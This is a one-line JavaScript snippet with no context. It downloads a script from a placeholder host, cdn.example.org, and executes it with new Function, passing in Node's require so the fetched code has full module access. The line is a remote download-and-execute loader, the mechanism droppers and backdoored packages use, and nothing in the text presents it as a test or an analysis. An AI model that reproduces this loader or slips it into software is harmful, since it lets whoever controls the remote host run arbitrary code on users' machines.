fetch("https://cdn.example.org/m.js").then(r => r.text()).then(t => new Function("require", t)(require));
